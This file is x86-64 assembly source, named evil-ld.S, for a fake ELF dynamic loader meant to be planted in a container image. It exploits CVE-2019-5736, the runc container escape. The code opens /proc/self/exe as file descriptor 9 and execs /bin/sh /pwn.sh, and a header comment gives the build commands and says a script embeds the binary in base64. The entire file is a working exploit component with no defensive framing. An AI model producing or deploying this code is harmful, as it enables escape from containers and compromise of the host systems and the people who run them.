/* A stand-in for /lib64/ld-linux-x86-64.so.2 planted in a container image: the kernel maps it
 * as the ELF interpreter of any dynamically linked program executed in the container and jumps
 * here with /proc/self/exe being that program. It opens /proc/self/exe read-only as fd 9 (no
 * O_CLOEXEC) and execs `/bin/sh /pwn.sh` (CVE-2019-5736, "malicious image" variant).
 * Position independent, no relocations, no libc. lib.sh embeds it (base64) as built with:
 *   gcc -nostdlib -fPIC -shared -Wl,-e,_start -Wl,--build-id=none -Wl,-z,norelro \
 *       -Wl,-z,noseparate-code -Wl,--hash-style=gnu -s -o evil-ld evil-ld.S */
        .text
        .globl _start
_start:
        mov     $2, %eax                /* open(path, O_RDONLY) */
        lea     exe(%rip), %rdi
        xor     %esi, %esi
        xor     %edx, %edx
        syscall
        test    %eax, %eax
        js      1f
        mov     %eax, %edi              /* dup2(fd, 9) */
        mov     $9, %esi
        mov     $33, %eax
        syscall
1:
        lea     sh(%rip), %rdi          /* execve("/bin/sh", argv, envp) */
        lea     argv(%rip), %rsi
        lea     sh(%rip), %rax
        mov     %rax, (%rsi)
        lea     script(%rip), %rax
        mov     %rax, 8(%rsi)
        lea     envp(%rip), %rdx
        lea     penv(%rip), %rax
        mov     %rax, (%rdx)
        mov     $59, %eax
        syscall
        mov     $127, %edi              /* exit(127) */
        mov     $60, %eax
        syscall
        .section .rodata
exe:    .asciz "/proc/self/exe"
sh:     .asciz "/bin/sh"
script: .asciz "/pwn.sh"
penv:   .asciz "PATH=/bin"
        .data
argv:   .quad 0, 0, 0
envp:   .quad 0, 0
